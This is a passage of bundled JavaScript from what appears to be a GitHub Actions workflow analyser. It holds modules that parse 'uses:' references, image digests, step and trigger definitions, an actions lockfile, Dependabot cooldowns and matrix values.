/* harmony default export */ const __WEBPACK_DEFAULT_EXPORT__ = ((0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .defineFacts */ .$v)({
    name: "must-stay-on-tag",
    about: "Builders that have to be called by their version tag",
    fields: { prefix: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The beginning of `owner/repo/path`")) },
}));


/***/ }),

/***/ 6012:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  $I: () => (/* reexport */ ActionsLock),
  $q: () => (/* reexport */ Dependabot),
  j$: () => (/* reexport */ DockerfileInstruction),
  qG: () => (/* reexport */ PLATFORM_COOLDOWN_DAYS),
  Tz: () => (/* reexport */ Renovate),
  Wu: () => (/* reexport */ Workflow),
  qj: () => (/* reexport */ actionOf),
  _r: () => (/* reexport */ constantText),
  zG: () => (/* reexport */ cooldownDays),
  l$: () => (/* reexport */ expressionsIn),
  Np: () => (/* reexport */ filledTexts),
  WM: () => (/* reexport */ isCommit),
  VO: () => (/* reexport */ isConstant),
  Bc: () => (/* reexport */ isDigest),
  nT: () => (/* reexport */ isOpen),
  JG: () => (/* reexport */ isSwitchedOn),
  a7: () => (/* reexport */ lockRefusal),
  Vb: () => (/* reexport */ nameOf),
  Fd: () => (/* reexport */ normalizePath),
  zZ: () => (/* reexport */ parseImage),
  fM: () => (/* reexport */ pinningOf),
  wY: () => (/* reexport */ wholeExpression)
});

// UNUSED EXPORTS: CompositeAction, DockerAction, EmbeddedExpression, EnvBlock, JavaScriptAction, LockedDependency, LockedWorkflow, Matrix, NormalJob, PERMISSION_SCOPES, Permissions, ReusableJob, RunScript, Runner, Step, Trigger, UnknownAction, Uses, envBlock, inputsOf, parseUses, scalarsOf, stepsOf, systemOf, triggersOf

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/shell/index.js + 29 modules
var shell = __webpack_require__(7436);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/expressions/index.js + 13 modules
var expressions = __webpack_require__(6481);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/expression.js

/** A `${{ }}` in a scalar, or a bare `if:`. Offsets `start` and `end` are offsets into the scalar's value. */
class EmbeddedExpression {
    scalar;
    start;
    end;
    bodyStart;
    body;
    isTerminated;
    #parsed;
    constructor(scalar, start, end, bodyStart, body, 
    /** Its closing `}}` is there. */
    isTerminated) {
        this.scalar = scalar;
        this.start = start;
        this.end = end;
        this.bodyStart = bodyStart;
        this.body = body;
        this.isTerminated = isTerminated;
    }
    get file() {
        return this.scalar.file;
    }
    /** Undefined when it can't be parsed; the nodes' offsets are offsets into the scalar's value. */
    get expression() {
        this.#parsed ??= (0,expressions/* parseExpression */.YK)(this.body, this.bodyStart);
        return this.#parsed.ok ? this.#parsed.expression : undefined;
    }
    /** The text with its fence. */
    get text() {
        return this.scalar.value.slice(this.start, this.end);
    }
    /** The file's range of a node of this expression, or of the whole. */
    spanOf(node = this) {
        return this.scalar.spanOf(node.start, node.end);
    }
}
const NONE = [];
const cache = new WeakMap();
/** Every `${{ }}` of a scalar. */
function expressionsIn(scalar) {
    if (!scalar.mayContain("${{"))
        return NONE;
    let found = cache.get(scalar);
    if (!found) {
        found = (0,expressions/* findExpressions */.zV)(scalar.value).map((e) => new EmbeddedExpression(scalar, e.start, e.end, e.bodyStart, e.body, e.terminated));
        cache.set(scalar, found);
    }
    return found;
}
/** Is the whole value an expression that is always that? */
function isConstant(node, value) {
    const whole = wholeExpression(node)?.expression;
    if (!whole)
        return false;
    const result = (0,expressions/* evaluate */._3)(whole, expressions/* NOTHING_KNOWN */.GN);
    return result.known && result.value === value;
}
/** Is the whole value one `${{ }}`? Then that. */
function wholeExpression(node) {
    if (node?.kind !== "scalar")
        return undefined;
    const [first] = expressionsIn(node);
    if (!first)
        return undefined;
    const value = node.value;
    return value.slice(0, first.start).trim() === "" && value.slice(first.end).trim() === "" ? first : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/env.js


/** An `env:` block. GitHub also accepts one expression in its place: then `entries` is empty and `dynamic` is that scalar. */
class EnvBlock {
    level;
    entry;
    parent;
    #entries;
    constructor(level, 
    /** The `env` key with its value. */
    entry, 
    /** The step, job, workflow or container that it stands in. */
    parent) {
        this.level = level;
        this.entry = entry;
        this.parent = parent;
    }
    get map() {
        return this.entry.value.kind === "map" ? this.entry.value : undefined;
    }
    get dynamic() {
        const { value } = this.entry;
        return value.kind === "scalar" && value.value.includes("${{") ? value : undefined;
    }
    get entries() {
        this.#entries ??= (this.map?.entries ?? []).map((entry) => ({
            level: this.level,
            name: entry.key.value,
            entry,
            value: entry.value.kind === "scalar" ? entry.value : null,
            block: this,
        }));
        return this.#entries;
    }
    /** Names have no case in the `env` context and on Windows; elsewhere variables have. The exact name wins. */
    get(name) {
        const lower = name.toLowerCase();
        return (this.entries.find((entry) => entry.name === name) ??
            this.entries.find((entry) => entry.name.toLowerCase() === lower));
    }
}
function envBlock(level, map) {
    const entry = map.entry("env");
    return entry ? new EnvBlock(level, entry, map) : null;
}
const TRUE_WORDS = new Set(["1", "true", "$true"]);
/** Is a switch of the runner on? It reads `true`, `1` and `$true`, in any case (actions/runner, `StringUtil.ConvertToBoolean`). */
function isSwitchedOn(node) {
    return TRUE_WORDS.has(constantText(node)?.trim().toLowerCase() ?? "");
}
/** What a value is in every run: its text, or what its one expression gives; undefined where that depends on the run. */
function constantText(node) {
    if (expressionsIn(node).length === 0)
        return node.value;
    const expression = wholeExpression(node)?.expression;
    const result = expression && (0,expressions/* evaluate */._3)(expression, { lookup: () => expressions/* UNKNOWN */.HV });
    return result?.known ? (0,expressions/* toText */.fE)(result.value) : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/image.js
const DIGEST = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[0-9a-f]{32,}$/i;
/**
 * Splits an image reference. A `:` before the last `/` belongs to a registry's port.
 *
 * @see OCI distribution specification 1.1, "Pulling manifests"; distribution/reference grammar
 */
function parseImage(text) {
    const trimmed = text.trim();
    const at = trimmed.indexOf("@");
    const before = at === -1 ? trimmed : trimmed.slice(0, at);
    const digest = at === -1 ? null : trimmed.slice(at + 1);
    const colon = before.indexOf(":", before.lastIndexOf("/") + 1);
    return {
        text: trimmed,
        name: colon === -1 ? before : before.slice(0, colon),
        tag: colon === -1 ? null : before.slice(colon + 1),
        digest: digest !== null && DIGEST.test(digest) ? digest : null,
    };
}
/** Is a text a digest, algorithm and all? */
function isDigest(text) {
    return DIGEST.test(text);
}
function pinningOf(image) {
    // Only a digest can stand behind an `@`.
    if (image.digest !== null || image.text.includes("@${"))
        return "digest";
    if (image.tag === null)
        return isOpen(image) ? "unknown" : "none";
    return image.tag === "latest" ? "latest" : "tag";
}
/** Is a part of the reference not known? */
function isOpen({ text }) {
    return text.includes("${");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/uses.js

const COMMIT = /^[0-9a-f]{40}$/i;
/** A `uses:` of a step or of a job that calls a reusable workflow. */
class Uses {
    scalar;
    #target;
    constructor(scalar) {
        this.scalar = scalar;
    }
    get text() {
        return this.scalar.value;
    }
    get target() {
        this.#target ??= parseUses(this.text);
        return this.#target;
    }
    /** Is it that action? `name` is `owner/repo[/path]` in lower case: owner, repository and path have no case on GitHub. */
    is(name) {
        const target = this.target;
        return target.kind === "repository" && nameOf(target) === name;
    }
}
/** `owner/repo[/path]` in lower case. */
function nameOf(target) {
    const path = target.path === "" ? "" : `/${target.path}`;
    return `${target.owner}/${target.repo}${path}`.toLowerCase();
}
/** A full 40-digit commit SHA: the only ref that can't be moved. */
function isCommit(ref) {
    return COMMIT.test(ref);
}
/**
 * Reads a `uses:` value.
 *
 * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].uses` and `jobs.<job_id>.uses`
 */
function parseUses(value) {
    const text = value.trim();
    if (text.includes("${{"))
        return { kind: "dynamic" };
    if (text.startsWith("docker://"))
        return { kind: "docker", image: parseImage(text.slice("docker://".length)) };
    if (text.startsWith("$/"))
        return { kind: "local", base: "repository", path: normalizePath(text.slice(2)) };
    if (text === "." || text.startsWith("./") || text.startsWith("../") || text.startsWith(".\\")) {
        return { kind: "local", base: "workspace", path: normalizePath(text) };
    }
    return parseRepositoryTarget(text, value.indexOf(text));
}
function parseRepositoryTarget(text, base) {
    const at = text.indexOf("@");
    if (at === -1)
        return { kind: "malformed" };
    const [owner, repo, ...path] = text.slice(0, at).split("/");
    const ref = text.slice(at + 1);
    if (!owner || !repo || ref === "")
        return { kind: "malformed" };
    const refSpan = { start: base + at + 1, end: base + text.length };
    return { kind: "repository", owner, repo, path: path.filter((part) => part !== "").join("/"), ref, refSpan };
}
/** Removes `.` and resolves `..` where it can; `\` counts as `/`. */
function normalizePath(path) {
    const parts = [];
    for (const part of path.replaceAll("\\", "/").split("/")) {
        if (part === "" || part === ".")
            continue;
        if (part === ".." && parts.length > 0 && parts.at(-1) !== "..")
            parts.pop();
        else
            parts.push(part);
    }
    return parts.join("/");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/step.js




/** A `run:` with the shell that reads it. */
class RunScript {
    step;
    scalar;
    #script;
    constructor(step, scalar) {
        this.step = step;
        this.scalar = scalar;
    }
    get text() {
        return this.scalar.value;
    }
    get shell() {
        return this.step.shell.value;
    }
    /** Parsed when first asked for. */
    get script() {
        this.#script ??= (0,shell/* parseScript */.tl)(this.text, this.shell, expressionsIn(this.scalar));
        return this.#script;
    }
}
/** One step of a job or of a composite action. */
class Step {
    owner;
    map;
    index;
    uses;
    run;
    env;
    constructor(owner, map, 
    /** Its place among its owner's steps, from 0; steps of a `parallel:` block count one by one. */
    index) {
        this.owner = owner;
        this.map = map;
        this.index = index;
        const uses = map.scalar("uses");
        const run = map.scalar("run");
        this.uses = uses ? new Uses(uses) : null;
        this.run = run ? new RunScript(this, run) : null;
        this.env = envBlock("step", map);
    }
    get file() {
        return this.map.file;
    }
    get id() {
        return this.map.text("id");
    }
    get condition() {
        return this.map.scalar("if");
    }
    /** Inputs of an action, by name in any case. */
    input(name) {
        const wanted = name.toLowerCase();
        return this.with?.entries.find((entry) => entry.key.value.toLowerCase() === wanted);
    }
    get with() {
        return this.map.map("with");
    }
    /** `with:` is one expression, so its inputs can't be known. */
    get hasDynamicInputs() {
        return this.map.scalar("with")?.isNull === false;
    }
    /** The variable as the step sees it: its own `env` before the job's and the workflow's. */
    variable(name) {
        return this.env?.get(name) ?? this.owner.variable(name);
    }
    /**
     * The shell of this step's `run:`.
     *
     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].shell` and `defaults.run`
     */
    get shell() {
        const own = this.map.scalar("shell");
        if (own && !own.isNull)
            return { value: (0,shell/* shellOf */.of)(own.value), from: "step", node: own };
        return this.owner.defaultShell;
    }
    get workingDirectory() {
        const own = this.map.scalar("working-directory");
        if (own && !own.isNull)
            return { value: own.value, from: "step", node: own };
        return this.owner.defaultWorkingDirectory;
    }
}
/** The steps of a `steps:` value; those of `parallel:` blocks are among them. */
function stepsOf(owner, node) {
    const steps = [];
    collectSteps(owner, node, steps);
    return steps;
}
function collectSteps(owner, node, steps) {
    if (node?.kind !== "seq")
        return;
    for (const { value } of node.items) {
        if (value.kind !== "map")
            continue;
        steps.push(new Step(owner, value, steps.length));
        collectSteps(owner, value.get("parallel"), steps);
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/trigger.js
/** One event of `on:`. */
class Trigger {
    key;
    node;
    constructor(
    /** The event's name where it stands: a key, an item or the one scalar. */
    key, 
    /** Its settings, when it has any. */
    node) {
        this.key = key;
        this.node = node;
    }
    get event() {
        return this.key.value;
    }
    get settings() {
        return this.node?.kind === "map" ? this.node : undefined;
    }
    /** Activity types; undefined when the event's default ones apply. */
    get types() {
        return this.list("types");
    }
    /** A filter such as `branches`, `branches-ignore`, `tags`, `paths`, `workflows`. */
    list(filter) {
        const node = this.settings?.get(filter);
        return node ? scalarsOf(node) : undefined;
    }
    get inputs() {
        return inputsOf(this.settings?.get("inputs"));
    }
    /** Names of the secrets that a `workflow_call` declares. */
    get secrets() {
        return this.settings?.map("secrets")?.entries ?? [];
    }
    /** `cron` of each entry of a `schedule`. */
    get schedules() {
        if (this.node?.kind !== "seq")
            return [];
        return this.node.items.flatMap(({ value }) => (value.kind === "map" ? (value.scalar("cron") ?? []) : []));
    }
}
/** The events of an `on:` value: a name, a list of names, or a mapping. */
function triggersOf(node) {
    if (!node)
        return [];
    if (node.kind === "scalar")
        return node.isNull ? [] : [new Trigger(node, null)];
    if (node.kind === "map")
        return node.entries.map((entry) => new Trigger(entry.key, entry.value));
    return scalarsOf(node).map((item) => new Trigger(item, null));
}
const INPUT_TYPES = new Set(["string", "boolean", "number", "choice", "environment"]);
function inputsOf(node) {
    if (node?.kind !== "map")
        return [];
    return node.entries.map((entry) => {
        const map = entry.value.kind === "map" ? entry.value : undefined;
        const type = map?.text("type") ?? "string";
        return {
            name: entry.key.value,
            entry,
            type: INPUT_TYPES.has(type) ? type : "string",
            options: scalarsOf(map?.get("options")),
            isRequired: map?.scalar("required")?.typed === true,
            default: map?.scalar("default") ?? null,
        };
    });
}
function scalarsOf(node) {
    if (!node)
        return [];
    if (node.kind === "scalar")
        return node.isNull ? [] : [node];
    if (node.kind === "map")
        return [];
    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/action.js


/**
 * What every `action.yml` has.
 *
 * @see Metadata syntax for GitHub Actions
 */
class BaseAction {
    document;
    root;
    runs;
    constructor(document, root, 
    /** Empty when the file has none. */
    runs) {
        this.document = document;
        this.root = root;
        this.runs = runs;
    }
    get file() {
        return this.document.file;
    }
    get path() {
        return this.file.path;
    }
    /** The folder it stands in, relative to the repository; empty at the root. */
    get folder() {
        const slash = this.path.lastIndexOf("/");
        return slash === -1 ? "" : this.path.slice(0, slash);
    }
    get inputs() {
        return inputsOf(this.root.get("inputs"));
    }
    get outputs() {
        return this.root.map("outputs")?.entries ?? [];
    }
    /** `runs.using`. */
    get using() {
        return this.runs?.scalar("using");
    }
}
/** `using: composite`: steps of its own. */
class CompositeAction extends BaseAction {
    kind = "composite";
    #steps;
    get steps() {
        this.#steps ??= stepsOf(this, this.runs?.get("steps"));
        return this.#steps;
    }
    /** A composite action has no `env:` above its steps; what its caller sets can't be seen here. */
    variable(_name) {
        return undefined;
    }
    /** Each `run:` of a composite action must name its shell; where one doesn't, bash is the likeliest. */
    get defaultShell() {
        return { value: "bash", from: "unknown", node: null };
    }
    get defaultWorkingDirectory() {
        return { value: ".", from: "default", node: null };
    }
}
/** `using: node24` and the like. */
class JavaScriptAction extends BaseAction {
    kind = "javascript";
    /** The files that it runs: `pre`, `main`, `post`. */
    get entryPoints() {
        return ["pre", "main", "post"].flatMap((key) => this.runs?.scalar(key) ?? []);
    }
}
/** `using: docker`. */
class DockerAction extends BaseAction {
    kind = "docker";
    /** `Dockerfile`, a path to one, or `docker://image`. */
    get image() {
        return this.runs?.scalar("image");
    }
}
/** `runs.using` is missing, or something else. */
class UnknownAction extends BaseAction {
    kind = "unknown";
}
function actionOf(document, root) {
    const runs = root.map("runs");
    const using = runs?.text("using")?.toLowerCase() ?? "";
    if (using === "composite")
        return new CompositeAction(document, root, runs);
    if (using === "docker")
        return new DockerAction(document, root, runs);
    if (using.startsWith("node"))
        return new JavaScriptAction(document, root, runs);
    return new UnknownAction(document, root, runs);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/locked-name.js

/** Format v0.0.1 has the commit in its keys; a ref can't hold a colon, so nothing else ends like that. */
const locked_name_DIGEST = /:sha(?:1|256)-[0-9a-f]+$/;
/** The names of a list; none where it is no list. */
function namesOf(node) {
    return node?.kind === "seq" ? node.items.map(({ value }) => nameAt(value)) : [];
}
function nameAt(node) {
    const parsed = node.kind === "scalar" ? parseUses(node.value.replace(locked_name_DIGEST, "")) : null;
    const target = parsed?.kind === "repository" ? parsed : null;
    return { node, target, id: target && idOf(target) };
}
/** By this names are compared: a commit has no case either. */
function idOf(target) {
    const { ref } = target;
    return `${nameOf(target)}@${isCommit(ref) ? ref.toLowerCase() : ref}`;
}
/** By its own name, else by its repository's: GitHub's tool locks whole repositories, so its names have no paths. */
function firstOf(map, target) {
    return map.get(idOf(target)) ?? map.get(idOf({ ...target, path: "" }));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/locked-dependency.js


const locked_dependency_COMMIT = /^sha1-([0-9a-f]{40})$/i;
const NUMBER = /^[1-9]\d*$/;
/** What the lock knows of an action at a ref. Keys that we don't know are in `node`. */
class LockedDependency {
    key;
    node;
    isContradicted;
    name;
    #flaw;
    #uses;
    constructor(key, node, 
    /** Another entry has the same name and another commit. */
    isContradicted) {
        this.key = key;
        this.node = node;
        this.isContradicted = isContradicted;
        this.name = nameAt(key);
    }
    get map() {
        return this.node.kind === "map" ? this.node : undefined;
    }
    /** 40 digits in lower case; null where there is none or it is malformed. */
    get commit() {
        return locked_dependency_COMMIT.exec(this.map?.text("commit") ?? "")?.[1]?.toLowerCase() ?? null;
    }
    /** What the action pulls in. */
    get uses() {
        this.#uses ??= namesOf(this.map?.get("uses"));
        return this.#uses;
    }
    /** Why it can't be relied upon; null where it is as it has to be. */
    get flaw() {
        if (this.#flaw === undefined)
            this.#flaw = this.findFlaw();
        return this.#flaw;
    }
    findFlaw() {
        const { target } = this.name;
        if (!target)
            return { node: this.key, message: "names no action at a ref" };
        if (this.isContradicted)
            return { node: this.key, message: "is there twice, with different commits" };
        return (this.refFlaw(target.ref) ??
            this.commitFlaw(target.ref) ??
            this.numberFlaw("owner_id") ??
            this.numberFlaw("repo_id") ??
            this.usesFlaw());
    }
    refFlaw(named) {
        const ref = this.map?.text("ref");
        // Format v0.0.1 says it in one of two other words.
        if (ref === undefined)
            return this.map?.text("tag") || this.map?.text("branch") ? null : this.without("ref");
        // Behind the name of a commit stands the branch or tag that it was found in.
        return ref === named || isCommit(named)
            ? null
            : this.at("ref", `has the \`ref\` \`${ref}\`, and another in its name`);
    }
    commitFlaw(named) {
        if (this.map?.text("commit") === undefined)
            return this.without("commit");
        if (this.commit === null)
            return this.at("commit", "has a `commit` that is not `sha1-` and 40 hexadecimal digits");
        const isOther = isCommit(named) && named.toLowerCase() !== this.commit;
        return isOther ? this.at("commit", "has another `commit` than its name") : null;
    }
    numberFlaw(field) {
        const text = this.map?.text(field);
        if (text === undefined)
            return this.without(field);
        return NUMBER.test(text) ? null : this.at(field, `has no number as its \`${field}\``);
    }
    usesFlaw() {
        const uses = this.map?.get("uses");
        return isNothing(uses) || uses?.kind === "seq" ? null : this.at("uses", "has a `uses` that is no list");
    }
    without(field) {
        return this.at(field, `has no \`${field}\``);
    }
    at(field, message) {
        return { node: this.nodeOf(field), message };
    }
    /** Where a field stands; the entry's name where it is missing. */
    nodeOf(field) {
        const node = this.map?.get(field);
        return !node || isNothing(node) ? this.key : node;
    }
    /** One of the ids by which GitHub knows a repository, whatever it is called. */
    idOf(field) {
        const text = this.map?.text(field);
        return text !== undefined && NUMBER.test(text) ? Number(text) : null;
    }
}
/** Absent, or null. */
function isNothing(node) {
    return node === undefined || (node.kind === "scalar" && node.isNull);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/actions-lock.js


const VERSION = /^v0\.0\.\d+$/;
/**
 * `.github/workflows/actions.lock`, in which GitHub keeps the commits that workflows run.
 *
 * @see github/actions-lockfile, `schema/lockfile-v0.0.3.json`; "Workflow dependency lockfiles", GitHub Docs
 */
class ActionsLock {
    document;
    root;
    kind = "actions-lock";
    #workflows;
    #dependencies;
    #incomplete;
    constructor(document, root) {
        this.document = document;
        this.root = root;
    }
    get file() {
        return this.document.file;
    }
    /** The workflows that are onboarded, by their paths. */
    get workflows() {
        this.#workflows ??= new Map(this.root.map("workflows")?.entries.map(({ key, value }) => [key.value, new LockedWorkflow(key, value, this)]));
        return this.#workflows;
    }
    /** What is known of each action, by `LockedName.id`. */
    get dependencies() {
        this.#dependencies ??= dependenciesOf(this.root.map("dependencies"));
        return this.#dependencies;
    }
    /** The entry for an action: its own, or its repository's. */
    entryFor(target) {
        return firstOf(this.dependencies, target);
    }
    /**
     * What a workflow's `uses:` is locked to: only its own list counts, and only an entry that is complete down to the last
     * action it pulls in.
     */
    pinOf(workflowPath, { target }) {
        if (target.kind !== "repository")
            return null;
        const id = this.workflows.get(workflowPath)?.nameOf(target)?.id ?? null;
        return id !== null && this.isComplete(id) ? (this.dependencies.get(id) ?? null) : null;
    }
    /** Is the entry there and sound, and are all that it uses? */
    isComplete(id) {
        this.#incomplete ??= this.findIncomplete();
        return this.dependencies.has(id) && !this.#incomplete.has(id);
    }
    findIncomplete() {
        const incomplete = new Set();
        const users = new Map();
        for (const [id, { flaw, uses }] of this.dependencies) {
            if (flaw || uses.some((name) => name.id === null || !this.dependencies.has(name.id)))
                incomplete.add(id);
            for (const name of uses)
                if (name.id !== null)
                    addTo(users, name.id, id);
        }
        // The set grows while it is walked: whoever uses something incomplete is incomplete, and a circle ends.
        for (const id of incomplete)
            for (const user of users.get(id) ?? [])
                incomplete.add(user);
        return incomplete;
    }
    /** The names, and those of all that their entries use, each once. */
    reachableFrom(ids) {
        const reached = new Set(ids);
        for (const id of reached) {
            for (const name of this.dependencies.get(id)?.uses ?? [])
                if (name.id !== null)
                    reached.add(name.id);
        }
        return reached;
    }
}
/** A workflow that is onboarded, with what it may use. */
class LockedWorkflow {
    key;
    node;
    lock;
    #names;
    #covering;
    constructor(
    /** Its path. */
    key, node, lock) {
        this.key = key;
        this.node = node;
        this.lock = lock;
    }
    get path() {
        return this.key.value;
    }
    get names() {
        this.#names ??= namesOf(this.node);
        return this.#names;
    }
    get ids() {
        return this.names.flatMap(({ id }) => id ?? []);
    }
    /** The name in the list that covers an action. */
    nameOf(target) {
        this.#covering ??= this.findCovering();
        return firstOf(this.#covering, target);
    }
    findCovering() {
        const covering = new Map();
        for (const name of this.names)
            if (name.id !== null)
                covering.set(name.id, name);
        // A line that has been pinned since is still covered by the tag at which its commit was locked.
        for (const name of this.names) {
            const commit = name.id !== null && this.lock.dependencies.get(name.id)?.commit;
            const pinned = commit && name.target && idOf({ ...name.target, ref: commit });
            if (pinned && !covering.has(pinned))
                covering.set(pinned, name);
        }
        return covering;
    }
    /** The ids in the list that cover some `uses:`. */
    covered(uses) {
        return uses.flatMap(({ target }) => (target.kind === "repository" ? (this.nameOf(target)?.id ?? []) : []));
    }
}
/**
 * Why a lock can't be read at all: GitHub then takes no part of it.
 *
 * @param root of a file that is a mapping
 */
function lockRefusal(root) {
    const version = root.get("version");
    if (!version || isNothing(version)) {
        return { node: root.entries[0]?.key ?? root, message: "it names no format version" };
    }
    if (version.kind !== "scalar" || !VERSION.test(version.value)) {
        return { node: version, message: "its format version is not known: `v0.0.1` to `v0.0.3` and their like are" };
    }
    return notA("map", root.get("workflows")) ?? notA("map", root.get("dependencies")) ?? listRefusal(root);
}
function listRefusal(root) {
    for (const { value } of root.map("workflows")?.entries ?? []) {
        const flaw = notA("seq", value);
        if (flaw)
            return flaw;
    }
    return null;
}
function notA(kind, node) {
    if (!node || isNothing(node) || node.kind === kind)
        return null;
    return { node, message: kind === "map" ? "a mapping is expected here" : "a list is expected here" };
}
function addTo(lists, key, item) {
    const list = lists.get(key);
    if (list)
        list.push(item);
    else
        lists.set(key, [item]);
}
function dependenciesOf(map) {
    const dependencies = new Map();
    for (const { key, value } of map?.entries ?? []) {
        const id = nameAt(key).id ?? key.value;
        const first = dependencies.get(id);
        const entry = new LockedDependency(key, value, false);
        // Names that differ in case only are one.
        const isOther = first !== undefined && first.commit !== entry.commit;
        dependencies.set(id, isOther ? new LockedDependency(key, value, true) : (first ?? entry));
    }
    return dependencies;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/dependabot.js

/** How long Dependabot waits where nothing else is said, since 2026. */
const PLATFORM_COOLDOWN_DAYS = 3;
/**
 * How many days old a version is when Dependabot takes it; undefined where the setting is no number.
 *
 * @see Dependabot options reference, `cooldown`: `default-days` goes for what has no setting of its own
 */
function cooldownDays({ cooldown }) {
    const days = cooldown?.scalar("default-days");
    if (!days || days.isNull)
        return PLATFORM_COOLDOWN_DAYS;
    return typeof days.typed === "number" ? days.typed : undefined;
}
/**
 * `.github/dependabot.yml`.
 *
 * @see Dependabot options reference
 */
class Dependabot {
    document;
    root;
    kind = "dependabot";
    constructor(document, root) {
        this.document = document;
        this.root = root;
    }
    get file() {
        return this.document.file;
    }
    get updates() {
        return (this.root.seq("updates")?.items ?? []).flatMap(({ value }) => value.kind === "map" ? [updateOf(value)] : []);
    }
}
function updateOf(map) {
    return {
        map,
        ecosystem: map.scalar("package-ecosystem"),
        directories: [...scalarsOf(map.get("directory")), ...scalarsOf(map.get("directories"))],
        cooldown: map.map("cooldown"),
        makesVersionUpdates: map.scalar("open-pull-requests-limit")?.typed !== 0,
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/dockerfile.js
/** An instruction with all its lines, bodies of here-documents included. */
class DockerfileInstruction {
    file;
    start;
    end;
    keyword;
    stage;
    reader;
    #flags;
    #words;
    #trigger;
    constructor(file, start, end, 
    /** In upper case. */
    keyword, 
    /** Null before the first `FROM`. */
    stage, reader) {
        this.file = file;
        this.start = start;
        this.end = end;
        this.keyword = keyword;
        this.stage = stage;
        this.reader = reader;
    }
    get flags() {
        this.#flags ??= this.reader.flags();
        return this.#flags;
    }
    /** Without flags; those of a here-document's body are among them. */
    get words() {
        this.#words ??= this.reader.words();
        return this.#words;
    }
    /** What `ONBUILD` is to do in builds on this image. */
    get trigger() {
        if (this.#trigger === undefined)
            this.#trigger = this.reader.trigger();
        return this.#trigger;
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/filled-texts.js


/** Texts of a person have fewer expressions, fewer pairs of values, and are shorter, as their values are. */
const MOST_EXPRESSIONS = 10;
const MOST_PAIRS = 10_000;
const LONGEST = 1000;
/**
 * The texts that `${{ matrix.x }}:${{ matrix.y }}` comes to in the combinations of a matrix. Exclusions of pairs don't count.
 *
 * @param text of the scalar, or the part of it that is asked about
 */
function filledTexts(scalar, text, matrix) {
    let texts = [{ text, values: [], last: null }];
    if (text.length > LONGEST)
        return texts;
    for (const embedded of distinct(expressionsIn(scalar)).slice(0, MOST_EXPRESSIONS)) {
        const { known, isOpen } = valuesOf(embedded, matrix);
        if (texts.length > 1 && texts.length * known.length > MOST_PAIRS)
            break;
        texts = texts.flatMap((before) => [
            ...(known.length > 0 ? fill(before, embedded.text, known, matrix) : []),
            ...(isOpen ? [{ ...before, last: null }] : []),
        ]);
    }
    return texts;
}
function distinct(expressions) {
    return [...new Map(expressions.map((embedded) => [embedded.text, embedded])).values()];
}
function valuesOf({ expression }, matrix) {
    const path = expression && (0,expressions/* contextPath */.VJ)(expression);
    if (path?.segments[0] !== "matrix" || !matrix)
        return { known: [], isOpen: true };
    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
    const known = values.filter((value) => value.value.length <= LONGEST && expressionsIn(value).length === 0);
    return { known, isOpen: isOpen || known.length < values.length || values.length === 0 };
}
function fill(before, written, values, matrix) {
    const fitting = values.filter((value) => before.values.every((other) => matrix?.mayMeet(value, other)));
    // An item of `include` without the key: the expression gives nothing.
    if (fitting.length === 0)
        return [{ ...before, text: before.text.replaceAll(written, "") }];
    return fitting.map((value) => ({
        text: before.text.replaceAll(written, () => (value.isNull ? "" : value.value)),
        values: [...before.values, value],
        last: value,
    }));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/matrix.js

/** `strategy.matrix` of a job. */
class Matrix {
    entry;
    constructor(entry) {
        this.entry = entry;
    }
    get map() {
        return this.entry.value.kind === "map" ? this.entry.value : undefined;
    }
    /** The whole matrix is an expression. */
    get isDynamic() {
        return this.entry.value.kind === "scalar";
    }
    /**
     * The values of `matrix.<path>`, such as `["os"]` or `["target", "image"]`; `*` stands for any key or item.
     *
     * Exclusions count only when they drop a value altogether; a value that some combination keeps is kept.
     *
     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.strategy.matrix`
     */
    valuesOf(path) {
        const { map } = this;
        const [head, ...rest] = path;
        if (!map || head === undefined)
            return { values: [], isOpen: true };
        const found = [];
        const state = { isOpen: false };
        const dropped = this.droppedValues(head);
        for (const entry of map.entries) {
            const key = entry.key.value;
            if (key === "exclude")
                continue;
            if (key === "include")
                collectFromInclude(entry.value, path, found, state);
            else if (head === "*" || key.toLowerCase() === head)
                collectFromVector(entry.value, rest, dropped, found, state);
        }
        return { values: found, isOpen: state.isOpen };
    }
    /** May one combination have both values? Two values of `include` only where they stand in the same item. */
    mayMeet(a, b) {
        const [first, second] = [this.itemOfInclude(a), this.itemOfInclude(b)];
        return !first || !second || first === second;
    }
    itemOfInclude({ start }) {
        const items = this.map?.seq("include")?.items ?? [];
        return items.find(({ value }) => value.start <= start && start < value.end)?.value;
    }
    /** Values of a vector that an exclusion of that one key removes from every combination. */
    droppedValues(head) {
        const dropped = new Set();
        for (const item of this.map?.seq("exclude")?.items ?? []) {
            if (item.value.kind !== "map" || item.value.entries.length !== 1)
                continue;
            const [only] = item.value.entries;
            if (only.key.value.toLowerCase() === head && only.value.kind === "scalar")
                dropped.add(only.value.value);
        }
        return dropped;
    }
}
function collectFromInclude(node, path, found, state) {
    if (node.kind !== "seq")
        state.isOpen = true;
    else
        for (const item of node.items)
